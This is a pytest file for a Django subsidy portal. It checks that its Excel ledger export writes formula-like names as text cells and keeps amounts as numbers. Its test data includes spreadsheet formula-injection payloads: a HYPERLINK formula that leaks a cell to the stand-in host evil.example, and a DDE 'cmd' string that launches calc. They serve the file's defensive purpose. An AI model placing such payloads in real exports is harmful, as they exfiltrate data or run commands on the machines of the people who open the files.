"""Text the portal writes to Excel stays text: a provider that signs up as a formula reaches the auditors' ledger
as a string cell, every prefix a spreadsheet might evaluate is guarded, and numbers stay numbers."""

import doctest
import io
import zipfile
from decimal import Decimal
from xml.etree import ElementTree

import pytest
from django.contrib.auth import get_user_model
from openpyxl import Workbook, load_workbook

from organisations import uscc as uscc_rules
from portal.core import xlsx
from programs.models import Program
from providers.models import PoolMembership, ProviderSignup
from subsidies.accepted import ProjectSpec, accepted_projects_create
from subsidies.ledger import Layout, LedgerRow, build_ledger
from tests.support.clock import at
from tests.support.runs import create_and_calculate

pytestmark = pytest.mark.django_db
SLUG = "wuyi-2024"
NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
HOSTILE = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "#N/A", "=1"]


def sheet_cells(content: bytes) -> dict[str, list[tuple[str, str, bool]]]:
    """Per worksheet part of the xlsx: every cell as (type attribute, text, has a formula)."""
    cells = {}
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for part in package.namelist():
            if not part.startswith("xl/worksheets/sheet"):
                continue
            root = ElementTree.fromstring(package.read(part))
            cells[part] = [
                (
                    cell.get("t", "n"),
                    "".join(cell.find("x:is", NS).itertext()) if cell.find("x:is", NS) is not None else "",
                    cell.find("x:f", NS) is not None,
                )
                for cell in root.iter(f"{{{NS['x']}}}c")
            ]
            assert b"<f>" not in package.read(part) and b"<f " not in package.read(part), part
    return cells


def test_a_provider_signed_up_as_a_formula_reaches_the_ledger_as_text(client):
    program = Program.objects.get(slug=SLUG)
    hardware = program.industries.get(code="hardware")
    code = uscc_rules.complete("91330723MA2FFFFF0")
    form = {
        "uscc": code,
        "name": HYPERLINK,
        "industries": [hardware.pk],
        "local_support_staff": "3",
        "qualifications": "",
        "username": "formula-provider",
        "display_name": "王经理",
        "phone": "13800000000",
        "email": "",
        "password1": "Strong#pass-2024",
        "password2": "Strong#pass-2024",
    }
    assert client.post(f"/accounts/signup/{SLUG}/provider/", form).status_code == 302
    signup = ProviderSignup.objects.get(user__username="formula-provider")
    client.force_login(get_user_model().objects.get(username="wuyi-reviewer"))
    client.post(f"/p/{SLUG}/provider-signups/{signup.pk}/decide/", {"decision": "approve"})
    membership = PoolMembership.objects.get(program=program, organisation__uscc=code)
    assert membership.organisation.name == HYPERLINK

    specs = [
        ProjectSpec("=1+2", "hardware", at("2024-07-01"), batch=1, n_software=Decimal("100000")),
        ProjectSpec(
            "五金公式", "hardware", at("2024-07-02"), batch=1, n_software=Decimal("200000"), provider=membership
        ),
    ]
    accepted_projects_create(program, specs, actor=get_user_model().objects.get(username="wuyi-reviewer"))
    _access, run = create_and_calculate(SLUG)

    client.force_login(get_user_model().objects.get(username="wuyi-auditor"))
    response = client.get(f"/p/{SLUG}/runs/{run.pk}/ledger/", {"download": "1"})
    assert response.status_code == 200
    cells = [cell for part in sheet_cells(response.content).values() for cell in part]
    assert ("inlineStr", HYPERLINK, False) in cells  # the provider column
    assert ("inlineStr", "=1+2", False) in cells  # an enterprise named as a formula too
    assert not any(has_formula for _type, _text, has_formula in cells)
    detail = load_workbook(io.BytesIO(response.content))["台账"]
    header = [cell.value for cell in detail[1]]
    row = next(r for r in detail.iter_rows(min_row=2, values_only=True) if r[header.index("服务商")] == HYPERLINK)
    assert isinstance(row[header.index("合计")], int | float)  # amounts stay numbers


def test_every_prefix_a_spreadsheet_evaluates_is_written_as_text_and_numbers_stay_numbers():
    rows = [
        LedgerRow(
            run=1,
            run_status=name,
            policy_version="v1",
            position=index + 1,
            kind="正常",
            corrects="#1-2",
            enterprise=name,
            uscc="91330723MA2E3X1Y0B",
            township=name,
            industry=name,
            track="lightweight",
            provider=name,
            filing_number=name,
            batch=1,
            audited=(Decimal("-1.50"), Decimal("0"), Decimal("0"), Decimal("0"), Decimal("0")),
            components={},
            subsidy_subtotal=Decimal("-10.00"),
            cap=None,
            subsidy=Decimal("-10.00"),
            awards=Decimal("0"),
            total=Decimal("-10.00"),
            funding={},
            unfunded=Decimal("0"),
            paid=Decimal("0"),
            payment_status=name,
            paid_dates="",
        )
        for index, name in enumerate(HOSTILE)
    ]
    content = build_ledger(rows, title="=TITLE()", layout=Layout(components=[], sources=[]))
    cells = [cell for part in sheet_cells(content).values() for cell in part]
    texts = {text for kind, text, _formula in cells if kind == "inlineStr"}
    as_read = [text.replace("\r", "\n") for text in HOSTILE]  # XML readers read a CR as a line feed
    assert set(as_read) <= texts and "=TITLE()" in texts
    assert not any(kind in ("e", "str") for kind, _text, _formula in cells)
    detail = load_workbook(io.BytesIO(content))["台账"]
    values = list(detail.iter_rows(min_row=2, max_row=len(HOSTILE) + 1, values_only=True))
    assert [row[6] for row in values] == as_read  # the enterprise column, as typed
    assert all(row[14] == -1.5 and row[23] == -10 for row in values)  # negative amounts are numbers
    assert detail.cell(2, 7).quotePrefix and detail.cell(2, 7).data_type == "s"


def test_a_normal_workbook_guards_too_and_the_doctests_hold():
    book = Workbook()
    sheet = book.active
    xlsx.append(sheet, ["=1+1", -5, Decimal("-2.50"), "plain", "bad\x01char", None])
    assert [cell.data_type for cell in sheet[1]][:5] == ["s", "n", "n", "s", "s"]
    assert sheet["A1"].value == "=1+1" and sheet["E1"].value == "badchar"
    out = io.BytesIO()
    book.save(out)
    cells = [cell for part in sheet_cells(out.getvalue()).values() for cell in part]
    assert ("inlineStr", "=1+1", False) in cells
    assert xlsx.is_formula_like("-1") and not xlsx.is_formula_like(-1)
    assert doctest.testmod(xlsx).failed == 0
